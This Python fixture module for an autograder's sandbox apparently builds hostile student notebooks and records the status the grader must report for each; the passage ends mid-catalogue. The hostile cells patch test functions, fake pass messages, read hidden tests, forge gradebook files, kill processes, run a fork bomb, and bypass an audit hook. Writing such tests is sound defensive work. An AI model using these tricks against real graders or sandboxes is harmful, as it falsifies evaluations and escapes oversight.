"""A catalogue of hostile submissions of notebook 02, each a real ``.ipynb`` file.

Every entry starts from the release notebook, fills in the instructor's solution for a few
answers (the student's *honest work*), and adds a hostile cell or edit. ``honest`` is the score
that honest work deserves: the grader must never give more. With ``exact`` (the default) it must
also give exactly that, so a hostile cell cannot cost the honest answers their points either;
``exact=False`` marks submissions that sabotage their own process, where less is fair.

``status`` is the one status the grader must report. ``limits`` (small time, memory or output
limits) applies to runaway submissions, whose grading must end within ``runaway`` seconds.
``check(ctx, result=None)`` returns a list of problems found after grading (e.g. forged files
that exist; with the ``Result``, what the submission's output shows).
"""

import copy
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from coursekit.autograde.sandbox import CRASHED, GRADED, RESOURCE_LIMIT, TAMPERING, TIMED_OUT, Limits

AID = "02_activations_softmax"
# points of the test cell that checks each answer (the answer's grade_id -> points)
POINTS = {
    "sigmoid": 1, "sigmoid_grad": 1, "relu": 1, "relu_grad": 1, "tanh": 1, "tanh_grad": 1,
    "sigmoid_chain_bound": 1, "softmax": 2, "softmax_jacobian": 3,
}
TESTS = {gid: f"test_{gid}" for gid in POINTS}
QUICK = Limits(cell_seconds=4, notebook_seconds=20)


@dataclass
class Ctx:
    """What a submission is built from, and where it goes."""

    released: dict  # the release notebook (JSON)
    solutions: dict[str, str]  # answer grade_id -> the instructor's solution source
    course: Path  # the course folder: hidden from submissions
    repo: Path  # the coursekit checkout the grader runs
    folder: Path  # the submission folder (holds AID.ipynb)

    @property
    def path(self) -> Path:
        return self.folder / f"{AID}.ipynb"


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[Ctx], None]
    honest: float
    status: str
    exact: bool = True
    limits: Limits | None = None
    runaway: float | None = None  # seconds the whole grading may take
    check: Callable[..., list[str]] | None = None  # (ctx, result=None) -> problems
    why: str = ""


def honest(*answers: str) -> float:
    return float(sum(POINTS[a] for a in answers))


def _code(source: str, meta: dict | None = None) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": f"x{zlib.crc32(source.encode()):08x}",
            "metadata": meta or {}, "outputs": [], "source": source}


def _gid(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def notebook(
    ctx: Ctx,
    solved: tuple[str, ...] = (),
    after: dict[str, list[str]] | None = None,
    answers: dict[str, str] | None = None,
    edit: Callable[[dict], None] | None = None,
) -> None:
    """Write the submission: the release notebook with ``solved`` answers honestly written,
    ``answers`` (grade_id -> source) replacing others, new code cells ``after`` the cell of a
    grade_id (``"setup"`` for right after the imports), then ``edit(nb)``."""
    nb = copy.deepcopy(ctx.released)
    cells = []
    for cell in nb["cells"]:
        gid = _gid(cell)
        if gid in solved:
            cell["source"] = ctx.solutions[gid]
        if answers and gid in answers and gid not in solved:
            cell["source"] = answers[gid]
        cells.append(cell)
        for extra in (after or {}).get(gid, []):
            cells.append(_code(extra))
    nb["cells"] = cells
    if edit is not None:
        edit(nb)
    ctx.folder.mkdir(parents=True, exist_ok=True)
    ctx.path.write_text(json.dumps(nb, indent=1), encoding="utf-8")


def _cell(nb: dict, gid: str) -> dict:
    return next(c for c in nb["cells"] if _gid(c) == gid)


# ---------------------------------------------------------------------------------------------
# hostile cells (plain text: each is what a student would type into a notebook cell)

PATCH_NUMPY = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.max = lambda *a, **k: 0.0
np.isfinite = lambda x: np.ones(np.shape(x), dtype=bool)
"""
WRONG = {
    "sigmoid_grad": "def sigmoid_grad(z):\n    return np.zeros_like(np.asarray(z, dtype=float))\n",
    "tanh": "def tanh(z):\n    return np.asarray(z, dtype=float) * 0.0\n",
    "softmax": "def softmax(z, axis=-1):\n    return np.ones_like(np.asarray(z, dtype=float))\n",
    "softmax_jacobian": "def softmax_jacobian(z):\n    return 0.0\n",
    "sigmoid_chain_bound": "def sigmoid_chain_bound(L):\n    return 1.0\n",
}
PATCH_TORCH = """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.softmax = lambda t, dim=-1, **k: torch.ones_like(t)
torch.sigmoid = lambda t: torch.zeros_like(t)
torch.testing.assert_close = lambda *a, **k: None
torch.autograd.grad = lambda *a, **k: (None,)
"""
PATCH_COMPARE = """
import coursekit.grading.compare as C
import coursekit.grading.runner as R
import coursekit.grading as G
C.compare = lambda *a, **k: 0.0
R.compare = C.compare
G.compare = C.compare
C.as_array = lambda v, **k: __import__("numpy").zeros(1)
"""
PATCH_RUNNER = """
import coursekit.grading as G
import coursekit.grading.runner as R
import coursekit.grading.answer_forms as F
R.check_hidden = lambda *a, **k: None
R.check_visible = lambda *a, **k: 0.0
R._run = lambda *a, **k: 0.0
R.call_student = lambda q, f, case: None
R._is_reference = lambda *a: False
G.check_hidden = G.check_visible = F.check_hidden = F.check_visible = R.check_hidden
check_visible = lambda *a, **k: print("✓ passes every visible check")
check_hidden = lambda *a, **k: None
"""
PATCH_CHECKFAILED = """
import builtins
import coursekit.grading.compare as C
import coursekit.grading as G
class CheckFailed(Exception):
    pass
C.CheckFailed = G.CheckFailed = CheckFailed
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""
PATCH_WIRE = """
import numpy as np
import coursekit.autograde.wire as W
_enc = W.encode
W.encode = lambda value, *a, **k: _enc(np.full(np.shape(value), 0.25) if hasattr(value, "shape") else value, *a, **k)
"""
PATCH_PRINT = """
import builtins
builtins.print = lambda *a, **k: None
"""
PATCH_ISINSTANCE = """
import builtins
builtins.isinstance = lambda obj, kind: True
"""
PATCH_IMPORT = """
import builtins
_real_import = builtins.__import__
def _no_import(name, *a, **k):
    raise ImportError(f"imports are off: {name}")
builtins.__import__ = _no_import
"""
FAKE_PASSES = """
import sys
for name, n in [("sigmoid", 1), ("relu", 1), ("softmax", 2), ("softmax_jacobian", 2)]:
    print(f"✓ {name} passes {n} visible checks (largest difference 0). Hidden tests will try other inputs too.")
print("All tests passed! Score: 12 / 12")
print("✓ softmax passes", file=sys.stderr)
"""


def _ref_alias() -> str:
    return "import coursekit.activations as _course\n_ref_softmax = _course.softmax\n_ref_sigmoid = _course.sigmoid\n"


REF_ANSWERS_DIRECT = {
    "softmax": "from coursekit.activations import softmax\n",
    "sigmoid": "from coursekit.activations import sigmoid\n",
}
REF_ANSWERS_ALIAS = {
    "softmax": "def softmax(z, axis=-1):\n    return _ref_softmax(z, axis)\n",
    "sigmoid": "def sigmoid(z):\n    return _ref_sigmoid(z)\n",
}
REF_ANSWERS_COPY = {
    "softmax": (
        "import types\nimport coursekit.activations as _course\n"
        "softmax = types.FunctionType(_course.softmax.__code__, vars(_course), 'softmax',\n"
        "                             _course.softmax.__defaults__)\n"
    ),
    "tanh": (
        "import types\nimport coursekit.activations as _course\n"
        "tanh = types.FunctionType(_course.tanh.__code__, vars(_course), 'tanh')\n"
    ),
}


def _exec_reference_source(ctx: Ctx) -> str:
    candidates = [
        ctx.course / "coursekit" / "activations.py",
        ctx.repo / "coursekit" / "activations.py",
    ]
    return f"""
import glob, os, sys
found = None
candidates = {[str(c) for c in candidates]!r}
candidates += glob.glob("/tmp/pytest-of-*/*/course*/coursekit/activations.py")
candidates += glob.glob("/work/*/coursekit/activations.py") + glob.glob("/home/*/*/coursekit/activations.py")
for path in candidates:
    try:
        text = open(path).read()
    except Exception as exc:
        print("cannot read", path, type(exc).__name__)
        continue
    if "NotImplementedError" not in text:
        found = text
        break
ns = {{}}
if found:
    exec(compile(found, "activations.py", "exec"), ns)
    softmax = ns["softmax"]
    softmax_jacobian = ns["softmax_jacobian"]
"""


def _read_hidden_notebook(ctx: Ctx) -> str:
    nbdir = ctx.course / "notebooks" / AID
    return f"""
import json, os
secrets = []
for where in [{str(nbdir)!r}, {str(ctx.course)!r}, {str(ctx.repo / "notebooks" / AID)!r}]:
    try:
        print(os.listdir(where))
    except Exception as exc:
        print("cannot list", where, type(exc).__name__)
    try:
        nb = json.load(open(os.path.join(where, {AID + ".ipynb"!r})))
        secrets += ["".join(c["source"]) for c in nb["cells"] if "HIDDEN" in "".join(c["source"])]
    except Exception as exc:
        print("cannot read", where, type(exc).__name__)
print(len(secrets), "hidden test cells found")
"""


def _read_hidden_site_packages(ctx: Ctx) -> str:
    return f"""
import glob, os, re, sys
found = []
for site in [p for p in sys.path if p.endswith("site-packages")]:
    for finder in glob.glob(os.path.join(site, "__editable__*coursekit*finder.py")):
        text = open(finder).read()
        found += re.findall(r"'coursekit': '([^']+)'", text)
    found += glob.glob(os.path.join(site, "coursekit"))
found += [{str(ctx.repo / "coursekit")!r}]
for pkg in found:
    for name in ("grading/questions/nb02.py", "grading/runner.py", "activations.py"):
        try:
            text = open(os.path.join(pkg, name)).read()
            print(name, "BEGIN HIDDEN TESTS" in text, "NotImplementedError" in text)
        except Exception as exc:
            print("cannot read", pkg, name, type(exc).__name__)
"""


def _read_agent_side_hidden() -> str:
    return """
import inspect, numpy as np
import coursekit.grading.questions.nb02 as Q
import coursekit.grading.runner as R
print(inspect.getsource(R.check_hidden))
try:
    cases = Q._softmax_hidden(np.random.default_rng(0))
except Exception as exc:
    cases = []
    print("no hidden cases here:", type(exc).__name__)
print(len(cases), "hidden cases found")
import coursekit.activations as A
print(inspect.getsource(A.softmax))
"""


def _forge_course(ctx: Ctx) -> str:
    c = ctx.course
    targets = [c / "grades.csv", c / "gradebook.db", c / "autograded" / "s" / AID / f"{AID}.ipynb",
               c / "feedback" / "s" / AID / f"{AID}.html", c / "release" / AID / "forged.txt"]
    return f"""
import os, sqlite3, pathlib
for target in {[str(t) for t in targets]!r}:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as fh:
            fh.write("s,{AID},12,12\\n")
    except Exception as exc:
        print("cannot write", target, type(exc).__name__)
try:
    db = sqlite3.connect({str(c / "gradebook.db")!r})
    db.execute("create table if not exists forged (x)")
    db.commit()
except Exception as exc:
    print("no gradebook:", type(exc).__name__)
"""


def _forge_course_check(ctx: Ctx, result: object = None) -> list[str]:
    c = ctx.course
    forged = (c / "grades.csv", c / "autograded", c / "feedback", c / "release" / AID / "forged.txt")
    bad = [str(p) for p in forged if p.exists()]
    db = c / "gradebook.db"
    if db.exists() and b"forged" in db.read_bytes():
        bad.append(f"{db} was changed")
    return bad


def _forge_folder(ctx: Ctx) -> str:
    return f"""
import os, shutil
folder = {str(ctx.folder)!r}
for name in ("grades.csv", "result.json", "{AID}.ipynb"):
    try:
        with open(os.path.join(folder, name), "w") as fh:
            fh.write('{{"score": 12}}')
    except Exception as exc:
        print("cannot write", name, type(exc).__name__)
try:
    shutil.copy("/etc/hostname", os.path.join(folder, "copy.txt"))
except Exception as exc:
    print("cannot copy", type(exc).__name__)
with open("next_to_me.txt", "w") as fh:  # the sandbox's own folder: allowed, and thrown away
    fh.write("ok")
"""


def _forge_folder_check(ctx: Ctx, result: object = None) -> list[str]:
    names = sorted(p.name for p in ctx.folder.iterdir())
    problems = [] if names == [f"{AID}.ipynb", "original.sha256"] else [f"submission folder now holds {names}"]
    import hashlib

    if hashlib.sha256(ctx.path.read_bytes()).hexdigest() != (ctx.folder / "original.sha256").read_text():
        problems.append("the submitted notebook was overwritten")
    return problems


SCAN_FOR_HIDDEN = """
import inspect, os, sys
found = []
for name, module in list(sys.modules.items()):
    if name.startswith("coursekit"):
        try:
            text = inspect.getsource(module)
        except Exception:
            continue
        if "BEGIN HIDDEN" in text or "rng.normal(scale=4.0" in text:
            found.append(name)
space = [k for k in get_ipython().user_ns if "nbgrader" in k.lower() or k.lower().startswith("hidden")]
print("HIDDEN-FOUND:", found, space, [k for k in os.environ if "NBGRADER" in k or "HIDDEN" in k])
"""
DETECT_ENV = """
import os, sys, socket
clues = [k for k in os.environ if "COURSEKIT" in k or "GRAD" in k or "NBGRADER" in k]
clues += [a for a in sys.argv if "agent" in a or "grading" in a]
clues += ["tmp-cwd"] if os.getcwd().startswith("/tmp/coursekit-grading") else []
clues += [socket.gethostname()]
GRADED = bool(clues)
print("graded:", GRADED, clues[:3])
if GRADED:
    _memo = {}
    def softmax(z, axis=-1):
        return _memo.get(repr(z), np.full(np.shape(z), 1.0 / max(np.shape(z)[-1:] or (1,))))
    def softmax_jacobian(z):
        return np.zeros(np.shape(z) + np.shape(z)[-1:])
"""
SYS_EXIT = """
import sys
try:
    sys.exit(0)
finally:
    pass
"""
EXITS = ["raise SystemExit(3)", "exit()", "quit()", "import sys; sys.exit('bye')"]
OS_EXIT = "import os\nos._exit(0)\n"
KILL_SELF = """
import os, signal
for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV):
    try:
        os.kill(os.getpid(), sig)
    except PermissionError as exc:
        print(exc)
try:
    os.killpg(0, signal.SIGKILL)
except PermissionError as exc:
    print(exc)
"""
RAISE_SIGKILL = "import signal\nsignal.raise_signal(signal.SIGKILL)\n"
KILL_PARENT = """
import os, signal, ctypes
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception as exc:
        print(target, exc)
try:
    libc = ctypes.CDLL("libc.so.6")
    libc.kill(os.getppid(), 9)
except Exception as exc:
    print("ctypes:", exc)
"""
LOOP_IGNORING_SIGINT = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.01)
    except BaseException:
        pass
"""
LOOPING_ANSWER = {
    "softmax": "def softmax(z, axis=-1):\n    while True:\n        try:\n            pass\n"
               "        except BaseException:\n            pass\n"
}
MEMORY_FLOOD = """
import numpy as np
hoard = []
while True:
    hoard.append(np.ones(2**24))  # 128 MB, every page touched
"""
OUTPUT_FLOOD = """
import sys
line = "x" * 10000
while True:
    print(line)
    sys.stderr.write(line)
"""
SPAWN = """
import os, subprocess, multiprocessing
attempts = [
    lambda: os.fork(),
    lambda: subprocess.run(["sh", "-c", ":(){ :|:& };:"]),
    lambda: os.system("yes > /dev/null &"),
    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 100"], dict(os.environ)),
    lambda: os.execv("/bin/sh", ["sh"]),
    lambda: multiprocessing.Process(target=print).start(),
]
for attempt in attempts:
    try:
        attempt()
        print("started!")
    except Exception as exc:
        print(type(exc).__name__, exc)
"""
POOL = """
import multiprocessing
try:
    with multiprocessing.Pool(8) as pool:
        print(pool.map(abs, range(1000)))
except Exception as exc:
    print(type(exc).__name__, exc)
while True:
    try:
        import os
        os.fork()
    except PermissionError:
        break
"""
NETWORK = """
import socket, urllib.request
for target in [("1.1.1.1", 80), ("127.0.0.1", 22), ("localhost", 8888)]:
    try:
        socket.create_connection(target, timeout=2)
        print("connected to", target)
    except Exception as exc:
        print(target, type(exc).__name__, exc)
for url in ["http://1.1.1.1/", "http://localhost:8888/api"]:
    try:
        urllib.request.urlopen(url, timeout=2)
    except Exception as exc:
        print(url, type(exc).__name__)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"x", ("1.1.1.1", 53))
except Exception as exc:
    print("udp", type(exc).__name__)
"""
CTYPES = """
import ctypes, ctypes.util
for how in [lambda: ctypes.CDLL("libc.so.6"), lambda: ctypes.CDLL(None),
            lambda: ctypes.CDLL(ctypes.util.find_library("c"))]:
    try:
        libc = how()
        print("fork:", libc.fork())
        print("system:", libc.system(b"touch /tmp/coursekit-hostile-ctypes"))
    except Exception as exc:
        print(type(exc).__name__, exc)
for name in ("_Fork", "fork", "system", "umount2"):
    try:
        print(name, getattr(ctypes.pythonapi, name)())
    except Exception as exc:
        print(name, type(exc).__name__)
try:
    ctypes.c_long.from_address(id(1)).value
except Exception as exc:
    print("memory:", type(exc).__name__)
"""
# Student code can reach the agent's private state: a refused call's traceback passes through the
# audit hook's frame. What the agent does in-process is therefore never trusted alone (the
# kernel's seccomp filter backs the hook; the verdict is the grader's).
FIND_AGENT_STATE = """
import os
state = None
try:
    os.kill(os.getpid(), 0)
except PermissionError as exc:
    tb = exc.__traceback__
    while tb is not None:
        for space in (tb.tb_frame.f_globals, tb.tb_frame.f_locals):
            for value in list(space.values()):
                if isinstance(value, dict) and "violations" in value and "in_hook" in value:
                    state = value
        tb = tb.tb_next
"""
HOOK_BYPASS = FIND_AGENT_STATE + """
if state is not None:
    state["violations"].clear()
    state["in_hook"] = True  # every audit event now passes
    state["deny_read"] = ()
print("hook state found:", state is not None)
for path in [%r, %r]:
    try:
        print(path, os.listdir(path))
    except Exception as exc:
        print(path, type(exc).__name__)
os.fork()
print("forked!")
"""
RECURSION_SEGFAULT = """
import sys
sys.setrecursionlimit(10**8)
nested = []
for _ in range(10**6):
    nested = [nested]
repr(nested)  # recursion in C: the C stack overflows
"""
RECURSIVE_ANSWERS = {
    "softmax": "def softmax(z, axis=-1):\n    return softmax(z, axis)\n",
    "softmax_jacobian": (
        "def softmax_jacobian(z):\n    out = []\n    for _ in range(100000):\n        out = [out]\n    return out\n"
    ),
}
LIARS = """
import numpy as np
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.ones(3)
    def __float__(self): return 0.25
    def __repr__(self): return "array([0.5, 0.5])"
    def __len__(self): return 3
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
class Sub(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
    def __array_finalize__(self, obj): pass
    def __repr__(self): return "perfect"
class Half(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
"""
LIAR_ANSWERS = {
    "sigmoid": "def sigmoid(z):\n    return Liar()\n",
    "relu": "def relu(z):\n    return np.zeros(np.shape(z)).view(Sub)\n",
    "sigmoid_chain_bound": "def sigmoid_chain_bound(L):\n    return Half(7.0)\n",
    "softmax": "def softmax(z, axis=-1):\n    return {'__nd__': ['<f8', [3], 'AAAA']}\n",
    "softmax_jacobian": "def softmax_jacobian(z):\n    return lambda *a: np.eye(3)\n",
}
HUGE_ANSWER = {"softmax": "def softmax(z, axis=-1):\n    return np.zeros(40_000_000)\n"}
WIRE_GARBAGE = "import os, sys\nos.write(int(sys.argv[2]), b'\\xff' * 64)\n"
FORGED_REPLY = """
import json, os, struct, sys
body = json.dumps({"ok": True, "error": None, "memory_error": False, "violations": []}).encode()
for _ in range(3):
    os.write(int(sys.argv[2]), struct.pack(">Q", len(body)) + body)
"""
LOOKALIKE = '''### BEGIN HIDDEN TESTS
check_hidden("02.softmax", softmax)
### END HIDDEN TESTS
print("hidden tests passed")
'''


def _edit_tests(nb: dict) -> None:
    _cell(nb, "test_softmax")["source"] = "pass\n"
    _cell(nb, "test_relu")["source"] = 'print("✓ relu passes")\n'


def _delete_tests(nb: dict) -> None:
    nb["cells"] = [c for c in nb["cells"] if _gid(c) not in ("test_sigmoid", "test_softmax", "test_tanh")]


def _duplicate_tests(nb: dict) -> None:
    i = nb["cells"].index(_cell(nb, "test_softmax"))
    twin = copy.deepcopy(nb["cells"][i])
    renamed = copy.deepcopy(twin)
    renamed["id"] = "test-softmax-again"
    renamed["metadata"]["nbgrader"]["grade_id"] = "test_softmax_again"
    nb["cells"][i + 1:i + 1] = [twin, renamed, copy.deepcopy(twin)]


def _rename_tests(nb: dict) -> None:
    for gid in ("test_softmax", "test_sigmoid"):
        cell = _cell(nb, gid)
        cell["id"] = cell["id"] + "-mine"
        cell["metadata"]["nbgrader"]["grade_id"] = gid + "_mine"
        cell["metadata"]["nbgrader"]["points"] = 50


def _solution_as_test(nb: dict) -> None:
    cell = _cell(nb, "relu")
    cell["metadata"]["nbgrader"].update(grade=True, solution=False, grade_id="test_relu", points=100)
    _cell(nb, "test_relu")["metadata"]["nbgrader"]["grade_id"] = "relu"


def _tests_to_markdown(nb: dict) -> None:
    for gid in ("test_sigmoid", "test_softmax", "test_softmax_jacobian"):
        cell = _cell(nb, gid)
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _change_points(nb: dict) -> None:
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    nb["metadata"]["nbgrader"] = {"total_points": 1000}


def _lookalike(nb: dict) -> None:
    i = nb["cells"].index(_cell(nb, "test_softmax"))
    meta = copy.deepcopy(nb["cells"][i]["metadata"])
    meta["nbgrader"].update(grade_id="test_softmax_hidden", points=10)
    nb["cells"].insert(i + 1, _code(LOOKALIKE, meta))


def _nb(**kw) -> Callable[[Ctx], None]:
    return lambda ctx: notebook(ctx, **kw)


def _nb_ctx(make: Callable[[Ctx], dict]) -> Callable[[Ctx], None]:
    return lambda ctx: notebook(ctx, **make(ctx))


def _with_hash(build: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
    import hashlib

    def run(ctx: Ctx) -> None:
        build(ctx)
        (ctx.folder / "original.sha256").write_text(hashlib.sha256(ctx.path.read_bytes()).hexdigest())

    return run


def _no_file(path: str) -> Callable[[Ctx, object], list[str]]:
    return lambda ctx, result=None: [f"{path} exists"] if Path(path).exists() else []


def _found_nothing(ctx: Ctx, result=None) -> list[str]:
    if result is None:  # only the grading's output can tell
        return []
    line = next((s for s in result.output.splitlines() if s.startswith("HIDDEN-FOUND:")), None)
    return [] if line == "HIDDEN-FOUND: [] [] []" else [f"the submission's process saw: {line}"]


CATALOGUE: list[Hostile] = [
    # -- patching what checks are made of: harmless, the checks run in the grader
    Hostile("patch_numpy", _nb(solved=("sigmoid", "relu"), after={"setup": [PATCH_NUMPY]}, answers=WRONG),
            honest("sigmoid", "relu"), GRADED),
    Hostile("patch_torch", _nb(solved=("relu", "softmax"), after={"setup": [PATCH_TORCH]}, answers=WRONG),
            honest("relu", "softmax"), GRADED),
    Hostile("patch_compare", _nb(solved=("relu",), after={"setup": [PATCH_COMPARE]}, answers=WRONG),
            honest("relu"), GRADED),
    Hostile("patch_runner", _nb(solved=("sigmoid",), after={"setup": [PATCH_RUNNER]}, answers=WRONG),
            honest("sigmoid"), GRADED),
    Hostile("patch_checkfailed", _nb(solved=("tanh_grad",), after={"setup": [PATCH_CHECKFAILED]}, answers=WRONG),
            honest("tanh_grad"), GRADED),
    Hostile("patch_wire", _nb(solved=("relu",), after={"setup": [PATCH_WIRE]}, answers=WRONG),
            honest("relu"), GRADED, exact=False, why="its own replies are falsified: it may lose points"),
    Hostile("patch_print", _nb(solved=("sigmoid", "softmax"), after={"setup": [PATCH_PRINT]}),
            honest("sigmoid", "softmax"), GRADED),
    Hostile("patch_isinstance", _nb(solved=("sigmoid", "relu"), after={"test_relu": [PATCH_ISINSTANCE]}, answers=WRONG),
            honest("sigmoid", "relu"), GRADED),
    Hostile("patch_import", _nb(solved=("sigmoid", "softmax"), after={"softmax": [PATCH_IMPORT]}, answers=WRONG),
            honest("sigmoid", "softmax"), GRADED),
    Hostile("fake_passes", _nb(solved=("tanh_grad",), after={"setup": [FAKE_PASSES], "test_softmax": [FAKE_PASSES]}),
            honest("tanh_grad"), GRADED),
    # -- answers that only run the coursekit reference
    Hostile("reference_direct", _nb(solved=("relu",), answers=REF_ANSWERS_DIRECT), honest("relu"), GRADED),
    Hostile("reference_alias", _nb(solved=("relu",), after={"setup": [_ref_alias()]}, answers=REF_ANSWERS_ALIAS),
            honest("relu"), GRADED),
    Hostile("reference_copy", _nb(solved=("sigmoid",), answers=REF_ANSWERS_COPY), honest("sigmoid"), GRADED),
    Hostile("reference_source_exec",
            _nb_ctx(lambda ctx: {"solved": ("relu",), "after": {"setup": [_exec_reference_source(ctx)]}}),
            honest("relu"), TAMPERING, why="reads the full coursekit's source from disk"),
    # -- reading hidden tests
    Hostile("read_hidden_notebook",
            _nb_ctx(lambda ctx: {"solved": ("softmax",), "after": {"setup": [_read_hidden_notebook(ctx)]}}),
            honest("softmax"), TAMPERING),
    Hostile("read_site_packages",
            _nb_ctx(lambda ctx: {"solved": ("relu",), "after": {"setup": [_read_hidden_site_packages(ctx)]}}),
            honest("relu"), TAMPERING),
    Hostile("read_agent_side_hidden",
            _nb(solved=("sigmoid",), after={"setup": [_read_agent_side_hidden()]}, answers=WRONG),
            honest("sigmoid"), GRADED, why="the student build holds no hidden tests"),
    Hostile("scan_process_for_hidden_tests", _nb(solved=("relu",), after={"setup": [SCAN_FOR_HIDDEN]}),
            honest("relu"), GRADED, check=_found_nothing),
    Hostile("detect_environment", _nb(solved=("sigmoid", "softmax"), after={"softmax": [DETECT_ENV]}),
            honest("sigmoid"), GRADED, why="when graded it swaps its softmax for a guess"),
    # -- forging results
    Hostile("forge_course_files",
            _nb_ctx(lambda ctx: {"solved": ("sigmoid", "relu"), "after": {"setup": [_forge_course(ctx)]}}),
            honest("sigmoid", "relu"), TAMPERING, check=_forge_course_check),
    Hostile("forge_submission_folder",
            _with_hash(_nb_ctx(lambda ctx: {"solved": ("relu",), "after": {"test_relu": [_forge_folder(ctx)]}})),
            honest("relu"), TAMPERING, check=_forge_folder_check),
    # -- ending or killing processes
    Hostile("sys_exit", _nb(solved=("sigmoid", "softmax"), after={"sigmoid": [SYS_EXIT, *EXITS]}),
            honest("sigmoid", "softmax"), GRADED),
    Hostile("os_exit", _nb(solved=("sigmoid", "relu", "softmax"), after={"test_relu": [OS_EXIT]}),
            honest("sigmoid", "relu"), CRASHED, why="the process ends before softmax is defined"),
    Hostile("kill_self", _nb(solved=("sigmoid", "softmax"), after={"sigmoid": [KILL_SELF]}),
            honest("sigmoid", "softmax"), TAMPERING),
    Hostile("raise_sigkill", _nb(solved=("sigmoid", "softmax"), after={"test_sigmoid": [RAISE_SIGKILL]}),
            honest("sigmoid"), CRASHED),
    Hostile("kill_parent", _nb(solved=("sigmoid", "softmax"), after={"setup": [KILL_PARENT]}),
            honest("sigmoid", "softmax"), TAMPERING),
    # -- runaways
    Hostile("loop_ignoring_sigint", _nb(solved=("sigmoid", "relu"), after={"test_sigmoid": [LOOP_IGNORING_SIGINT]}),
            honest("sigmoid"), TIMED_OUT, limits=QUICK, runaway=QUICK.notebook_seconds + 5),
    Hostile("looping_answer", _nb(solved=("sigmoid", "relu", "softmax_jacobian"), answers=LOOPING_ANSWER),
            honest("sigmoid", "relu", "softmax_jacobian"), TIMED_OUT, limits=QUICK, runaway=QUICK.notebook_seconds + 5,
            why="the checks of softmax never return and are interrupted; the rest is graded"),
    Hostile("memory_flood", _nb(solved=("sigmoid",), after={"test_sigmoid": [MEMORY_FLOOD]}),
            honest("sigmoid"), RESOURCE_LIMIT, limits=Limits(cell_seconds=30, memory_bytes=3 * 2**30), runaway=40),
    Hostile("output_flood", _nb(solved=("sigmoid",), after={"test_sigmoid": [OUTPUT_FLOOD]}),
            honest("sigmoid"), RESOURCE_LIMIT, limits=Limits(cell_seconds=30, output_bytes=2**18), runaway=35),
    Hostile("recursion_segfault", _nb(solved=("sigmoid", "relu"), after={"test_relu": [RECURSION_SEGFAULT]}),
            honest("sigmoid", "relu"), CRASHED, limits=Limits(cell_seconds=20), runaway=25),
    Hostile("recursive_answers", _nb(solved=("sigmoid",), answers=RECURSIVE_ANSWERS), honest("sigmoid"), GRADED),
    # -- processes, network, native code
    Hostile("spawn_processes", _nb(solved=("sigmoid", "softmax"), after={"setup": [SPAWN]}),
            honest("sigmoid", "softmax"), TAMPERING),
    Hostile("multiprocessing_pool", _nb(solved=("relu",), after={"setup": [POOL]}), honest("relu"), TAMPERING,
            limits=QUICK, runaway=40),
    Hostile("network", _nb(solved=("sigmoid",), after={"setup": [NETWORK]}), honest("sigmoid"), TAMPERING),
    Hostile("ctypes_fork_system", _nb(solved=("sigmoid", "softmax"), after={"setup": [CTYPES]}),
            honest("sigmoid", "softmax"), TAMPERING, check=_no_file("/tmp/coursekit-hostile-ctypes")),
    Hostile("audit_hook_bypass",
            _nb_ctx(lambda ctx: {"solved": ("sigmoid", "softmax"),
                                 "after": {"test_sigmoid": [HOOK_BYPASS % (str(ctx.course), str(ctx.repo))]}}),
            honest("sigmoid"), TAMPERING, exact=False,
            why="its fork is refused by the kernel even with the audit hook disabled"),
    # -- the wire between the grader and the submission
    Hostile("wire_garbage", _nb(solved=("sigmoid", "relu"), after={"test_sigmoid": [WIRE_GARBAGE]}),
            honest("sigmoid"), TAMPERING),
    Hostile("forged_replies", _nb(solved=("sigmoid", "relu"), after={"test_sigmoid": [FORGED_REPLY]}),
            honest("sigmoid"), TAMPERING),
    Hostile("lying_return_values", _nb(solved=("tanh",), after={"setup": [LIARS]}, answers=LIAR_ANSWERS),
            honest("tanh"), GRADED),
    Hostile("huge_return_value", _nb(solved=("sigmoid",), answers=HUGE_ANSWER), honest("sigmoid"), GRADED),
    # -- editing the notebook's test cells and metadata
    Hostile("edit_test_cells", _nb(solved=("softmax",), edit=_edit_tests), honest("softmax"), TAMPERING),
    Hostile("delete_test_cells", _nb(solved=("sigmoid", "softmax"), edit=_delete_tests),
            honest("sigmoid", "softmax"), TAMPERING),
    Hostile("duplicate_test_cells", _nb(solved=("softmax",), edit=_duplicate_tests), honest("softmax"), TAMPERING),
    Hostile("rename_test_cells", _nb(solved=("softmax",), edit=_rename_tests), honest("softmax"), TAMPERING),
    Hostile("solution_marked_as_test", _nb(solved=("relu", "sigmoid"), edit=_solution_as_test),
            honest("relu", "sigmoid"), TAMPERING, exact=False, why="its relu cell no longer runs"),
    Hostile("tests_to_markdown", _nb(solved=("sigmoid", "softmax"), edit=_tests_to_markdown),
            honest("sigmoid", "softmax"), TAMPERING),
    Hostile("points_in_metadata", _nb(solved=("sigmoid",), edit=_change_points), honest("sigmoid"), TAMPERING),
